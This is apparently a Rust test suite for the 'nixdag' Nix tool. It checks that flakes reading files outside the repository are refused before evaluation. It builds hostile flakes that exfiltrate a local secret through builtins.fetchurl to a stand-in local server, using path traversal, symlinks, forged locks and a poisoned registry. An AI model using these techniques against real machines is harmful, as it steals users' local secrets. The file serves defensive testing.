//! Flakes that read the machine that plans and send what they have read elsewhere, with every version of Nix: nothing is evaluated before it is
//! certain that no input is on the machine outside of the repository.

use std::fs;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};
use std::thread;

use nixdag::nix::system;

use crate::support::{FreshNix, folder};

/// What is in a file outside of the repository, and nowhere else.
const SECRET: [&str; 2] = ["s3cr3t", "of-the-machine"];

const EMPTY_LOCK: &str = r#"{"nodes":{"root":{}},"root":"root","version":7}"#;

/// Plans a flake, named in several ways, and wants it refused.
const PLAN: &str = r#"
    nix-store --init
    export HOME=$PWD/home; mkdir home other; printf %s-%s FIRST SECOND > other/word; echo "{ outputs = _: { }; }" > other/flake.nix
    git -C other init -q; git -C other add .; git -C other commit -qm x; commit=$(git -C other rev-parse HEAD)
    cd checkout; git init -q; sed -i "s|ROOT|$(dirname $PWD)|g; s|COMMIT|$commit|g" flake.nix flake.lock sub/flake.nix
    BEFORE
    git add -A; git commit -qF ../message
    for named in NAMED; do
      if $nixdag plan $named --available /dev/null --format json > ../printed 2> ../said; then echo "$named is not refused"; exit 1; fi
      grep -q 'would be read from this machine' ../said || { cat ../said; exit 1; }
    done
"#;

const NOWHERE: &str = r#"! grep -rqa --exclude=\*.sqlite\* "$(cat ../other/word)" /nix/store ../printed ../said || { echo "it was copied"; exit 1; }"#;

/// An attack: what is in `flake.nix`, how it reads the secret, and what else is needed.
struct Attack {
    inputs: &'static str,
    outputs: &'static str,
    secret: &'static str,
    lock: &'static str,
    before: &'static str,
    named: &'static str,
    /// Nix itself has to find out.
    is_copied: bool,
}

const PLAIN: Attack = Attack {
    inputs: "",
    outputs: "{ self, ... }@inputs",
    secret: "inputs.x",
    lock: EMPTY_LOCK,
    before: "",
    named: ". path:$PWD git+file:$PWD",
    is_copied: false,
};

const GIT: &str = "inputs.x = { url = \"git+file://ROOT/other\"; flake = false; };";

/// Locks that name a commit of the repository, but not for this input.
const OTHER_NODE: &str = r#"{"nodes":{"z":{"locked":{"type":"git","url":"file://ROOT/other","rev":"0"}},"root":{}},"root":"root","version":7}"#;
const OTHER_COMMIT: &str = r#"{"nodes":{"z":{"locked":{"type":"git","url":"file://ROOT/other","rev":"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"},
    "original":{"type":"git","url":"file://ROOT/other"}},"root":{}},"root":"root","version":7}"#;
const OTHER_ORIGINAL: &str = r#"{"nodes":{"x":{"flake":false,"locked":{"type":"git","url":"file://ROOT/other","rev":"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"},
    "original":{"type":"git","url":"file://ROOT/elsewhere"}},"root":{"inputs":{"x":"x"}}},"root":"root","version":7}"#;
fn attacks() -> Vec<Attack> {
    let mut attacks = Vec::new();
    for lock in [OTHER_NODE, OTHER_COMMIT, OTHER_ORIGINAL, EMPTY_LOCK] {
        for before in ["", "echo more >> ../other/word"] {
            attacks.push(Attack { inputs: GIT, lock, before, ..PLAIN });
        }
    }
    for inputs in [
        "inputs.x = { url = \"a.b/../../../..ROOT/other\"; flake = false; };",
        "inputs.x = { url = \"1/../../../..ROOT/other\"; flake = false; };",
        "inputs.x.url = \"a.b/../../../..ROOT/other\";",
    ] {
        attacks.push(Attack { inputs, ..PLAIN });
    }
    for (inputs, before) in [
        ("inputs.x = { url = \"./link\"; flake = false; };", "ln -s $(dirname $PWD)/other link"),
        ("inputs.x = { url = \"a.b/other\"; flake = false; };", "ln -s $(dirname $PWD) a.b"),
        ("inputs.x = { url = \"./link/other\"; flake = false; };", "ln -s ../../..$(dirname $PWD) link"),
    ] {
        attacks.push(Attack { inputs, before, ..PLAIN });
    }
    let sub = "inputs.sub.url = \"path:./sub\";";
    attacks.push(Attack { inputs: sub, secret: "inputs.sub.inputs.x", is_copied: true, ..PLAIN });
    // The machine's registry has it.
    let registry = r#"echo "{\"version\":2,\"flakes\":[{\"from\":{\"type\":\"indirect\",\"id\":\"private\"},\"to\":{\"type\":\"path\",\"path\":\"$(dirname $PWD)/other\"}}]}" > ../registry.json
        export NIX_CONFIG="$NIX_CONFIG
        extra-experimental-features = nix-command flakes
        flake-registry = $(dirname $PWD)/registry.json""#;
    for before in [registry.to_owned(), format!("{registry}; rm flake.lock")] {
        let outputs = "{ self, private }";
        let before = before.leak();
        attacks.push(Attack { outputs, secret: "private", before, is_copied: true, ..PLAIN });
    }
    attacks
}

/// A server that keeps the first lines of all requests.
fn server() -> (String, Arc<Mutex<Vec<String>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap().to_string();
    let requests = Arc::new(Mutex::new(Vec::new()));
    let kept = requests.clone();
    thread::spawn(move || {
        for mut stream in listener.incoming().map_while(Result::ok) {
            let mut bytes = [0; 4096];
            let length = stream.read(&mut bytes).unwrap_or(0);
            let line = String::from_utf8_lossy(&bytes[..length]).lines().next().unwrap_or_default().to_owned();
            kept.lock().unwrap().push(line);
            let _ = stream.write_all(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
        }
    });
    (address, requests)
}

fn attack(nix: &FreshNix, attack: &Attack) {
    let (host, requests) = server();
    let flake = r#"{
      # $Format:%B$
      INPUTS
      outputs = OUTPUTS: { packages.SYSTEM.x = derivation { name = "x"; system = "SYSTEM"; builder = "/bin/sh"; args = [ "-c" "echo > $out" ];
        leak = builtins.fetchurl { url = "http://HOST/${builtins.readFile "${SOURCE}/word"}"; sha256 = "0000000000000000000000000000000000000000000000000000"; }; }; };
    }"#;
    let system = system::current();
    let flake = [
        ("INPUTS", attack.inputs),
        ("OUTPUTS", attack.outputs),
        ("SYSTEM", &system),
        ("HOST", &host),
        ("SOURCE", attack.secret),
    ]
    .iter()
    .fold(flake.to_owned(), |text, (of, to)| text.replace(of, to));
    let sub = "{ inputs.x = { url = \"path:ROOT/other\"; flake = false; }; outputs = _: { }; }";
    let folder = folder(&[
        ("checkout/flake.nix", &flake),
        ("checkout/flake.lock", attack.lock),
        ("checkout/sub/flake.nix", sub),
        ("message", "A title\n\ninputs.x = { url = \"path:ROOT/other\"; flake = false; };\n#"),
    ]);
    let message = fs::read_to_string(folder.path().join("message")).unwrap();
    fs::write(folder.path().join("message"), message.replace("ROOT", folder.path().to_str().unwrap())).unwrap();
    let script = PLAN.replace("FIRST", SECRET[0]).replace("SECOND", SECRET[1]).replace("BEFORE", attack.before);
    let script = script.replace("NAMED", attack.named);
    let end = if attack.is_copied { "" } else { NOWHERE };
    nix.script(folder.path(), &format!("{script}\n{end}"));
    let requests = requests.lock().unwrap();
    assert!(requests.is_empty(), "{} {}: {requests:?}", attack.inputs, attack.before);
}

#[test]
fn nothing_of_the_machine_is_sent_elsewhere_before_inputs_are_known() {
    for nix in FreshNix::every_version() {
        attacks().iter().for_each(|one| attack(&nix, one));
    }
}

/// What git makes of a file in an archive is not what is in the checkout: 2.8 evaluates the archive.
#[test]
fn a_flake_that_git_changes_is_looked_at_as_nix_sees_it() {
    let nix = FreshNix::new();
    let before = "rm flake.lock; echo 'flake.nix export-subst' > .gitattributes";
    attack(&nix, &Attack { before, named: ".", is_copied: true, ..PLAIN });
}
